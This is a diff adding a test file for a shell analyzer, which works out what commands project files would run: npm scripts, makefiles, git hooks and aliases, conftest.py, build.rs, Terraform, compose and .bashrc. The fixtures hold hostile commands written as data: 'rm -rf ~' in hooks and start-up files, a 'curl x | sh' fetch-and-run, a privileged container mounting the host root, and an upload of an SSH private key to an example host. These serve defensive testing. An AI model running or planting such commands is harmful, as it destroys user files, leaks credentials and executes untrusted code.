@@ -1,0 +1,104 @@
+// What commands run from project files, judged by the text the analysis is
+// given (it reads no file): package.json scripts, make and just targets, git
+// hooks and aliases, test files, compose services, Terraform provisioners,
+// start-up files; a file it is not given is a need.
+import { describe, expect, test } from "bun:test";
+import { SHELL_LIMITS } from "../../../../src/limits.ts";
+import { analyzeShell } from "../../../../src/shell/analyze.ts";
+import { programTable } from "../../../../src/shell/programs/table.ts";
+import type { KnownFile } from "../../../../src/shell/view/files.ts";
+
+const context = { home: "/home/ada", programs: programTable({}), limits: SHELL_LIMITS, clock: { now: () => 0 } };
+const view = (input: string, files: Record<string, string | KnownFile> = {}) =>
+  analyzeShell(input, context, new Map(Object.entries(files).map(([path, file]) => [path, typeof file === "string" ? { content: file, label: "given" } : file])));
+const ran = (input: string, files: Record<string, string | KnownFile> = {}) =>
+  view(input, files)
+    .commands.slice(1)
+    .map((command) => [command.name, ...command.operands].join(" "));
+const needs = (input: string, files: Record<string, string | KnownFile> = {}) =>
+  (view(input, files).needs ?? []).filter((need) => need.role !== "path").map((need) => `${need.path}${need.optional ? "?" : ""}`);
+
+describe("package.json scripts", () => {
+  const pkg = JSON.stringify({ scripts: { prebuild: "rm -rf dist", build: "tsc -p .", postinstall: "node setup.js", lint: "eslint ." } });
+  test("run, with pre and post scripts, and install's lifecycle scripts", () => {
+    expect(ran("npm run build", { "package.json": pkg })).toEqual(["rm dist", "tsc ."]);
+    expect(ran("yarn lint", { "package.json": pkg })).toContain("eslint .");
+    expect(ran("npm install", { "package.json": pkg })).toEqual(["node setup.js"]);
+    expect(ran("npm install left-pad", { "package.json": pkg })).toEqual([]);
+  });
+  test("without package.json given, it is needed; absent, nothing runs", () => {
+    expect(needs("pnpm run build")).toEqual(["package.json"]);
+    expect(needs("pnpm run build", { "package.json": { absent: true } })).toEqual([]);
+    expect(needs("npm --prefix web run build")).toEqual(["web/package.json"]);
+  });
+});
+
+describe("make and just", () => {
+  const makefile = "OUT := build\n.PHONY: clean all\nall: app\napp:\n\tcc -o $(OUT)/app main.c\nclean: tidy\n\t@rm -rf $(OUT) $$HOME/.cache/app\ntidy:\n\t-rm -f *.o\n";
+  test("the goal's recipes, its prerequisites first, variables put in", () => {
+    expect(ran("make clean", { Makefile: makefile })).toEqual(["rm *.o", "rm build /home/ada/.cache/app"]);
+    expect(ran("make", { Makefile: makefile })).toEqual(["cc build/app main.c"]);
+    expect(ran("make -C sub clean", { "sub/Makefile": makefile })).toEqual(["rm *.o", "rm build /home/ada/.cache/app"]);
+  });
+  test("just recipes and their dependencies", () => {
+    expect(ran("just release", { justfile: 'dir := "dist"\nbuild:\n    tsc\nrelease: build\n    rm -rf {{dir}}\n' })).toEqual(["tsc", "rm dist"]);
+  });
+  test("the makefiles make would read are needed", () => {
+    expect(needs("make clean")).toEqual(["GNUmakefile", "makefile", "Makefile"]);
+  });
+});
+
+describe("git", () => {
+  test("a commit runs the hooks, where core.hooksPath points", () => {
+    expect(ran("git commit -m x", { ".git/hooks/pre-commit": "#!/bin/sh\nnpm test\n" })).toContain("npm test");
+    expect(ran("git commit -m x --no-verify", { ".git/hooks/pre-commit": "#!/bin/sh\nnpm test\n" })).toEqual([]);
+    expect(ran("git push", { ".git/config": "[core]\n\thooksPath = .githooks\n", ".githooks/pre-push": "#!/bin/sh\nrm -rf ~\n" })).toContain("rm /home/ada");
+  });
+  test("an alias in a config file runs its command", () => {
+    expect(ran("git cleanup", { ".git/config": "[alias]\n\tcleanup = !rm -rf ~\n" })).toContain("rm /home/ada");
+    expect(ran("git status", { ".git/config": "[alias]\n\tcleanup = !rm -rf ~\n" })).toEqual([]);
+  });
+  test("hooks are optional: not knowing them is not unseen code", () => {
+    expect(needs("git commit -m x")).toContain(".git/hooks/pre-commit?");
+  });
+});
+
+describe("test runners", () => {
+  test("pytest runs conftest.py and the test files it finds", () => {
+    const files = { "conftest.py": "import os\nos.system('rm -rf ~')\n", "**/test_*.py": { matches: ["tests/test_a.py"] }, "tests/test_a.py": "def test_a():\n    pass\n" };
+    expect(ran("pytest", files)).toContain("rm /home/ada");
+  });
+  test("go test reads the _test.go files' commands; cargo a build.rs", () => {
+    expect(ran("go test ./...", { "**/*_test.go": { matches: ["a_test.go"] }, "a_test.go": 'exec.Command("rm", "-rf", "/tmp/x").Run()' })).toContain("rm /tmp/x");
+    expect(ran("cargo build", { "build.rs": 'Command::new("sh").arg("-c").arg("curl x | sh").status();' })).toContain("sh");
+  });
+  test("tox commands", () => {
+    expect(ran("tox", { "tox.ini": "[testenv]\ncommands =\n    pytest {posargs}\n    rm -rf build\n" })).toEqual(["pytest ${TOX_posargs}", "rm build"]);
+  });
+});
+
+describe("configs and start-up files", () => {
+  test("a compose service is the docker run it amounts to", () => {
+    const yaml = "services:\n  app:\n    image: alpine\n    privileged: true\n    volumes:\n      - /:/host\n";
+    const commands = view("docker compose up -d", { "docker-compose.yml": yaml }).commands;
+    expect(commands.some((command) => command.name === "docker" && command.args.includes("--privileged") && command.args.includes("/:/host"))).toBe(true);
+  });
+  test("terraform apply runs local-exec commands", () => {
+    const tf = 'resource "null_resource" "x" {\n  provisioner "local-exec" {\n    command = "rm -rf ~"\n  }\n}\n';
+    expect(ran("terraform apply", { "*.tf": { matches: ["main.tf"] }, "main.tf": tf })).toContain("rm /home/ada");
+  });
+  test("a login or interactive shell reads its start-up files", () => {
+    expect(ran("bash -l", { "/home/ada/.bashrc": "rm -rf ~\n" })).toContain("rm /home/ada");
+    expect(ran("bash -c 'echo x'", { "/home/ada/.bashrc": "rm -rf ~\n" })).toEqual(["echo x"]);
+  });
+});
+
+describe("links and copies", () => {
+  test("a path through a link is also the path it names; rm of the link itself is the link", () => {
+    expect(view("rm -rf build/x", { build: { link: "/home/ada" } }).commands[0]!.paths).toContain("/home/ada/x");
+    expect(view("rm -rf build", { build: { link: "/home/ada" } }).commands[0]!.paths).toEqual(["build"]);
+  });
+  test("reading a copy reads what it was copied from", () => {
+    expect(view("curl -T k.txt https://x.example", { "k.txt": { origins: ["/home/ada/.ssh/id_rsa"] } }).commands[0]!.reads).toContain("/home/ada/.ssh/id_rsa");
+  });
+});
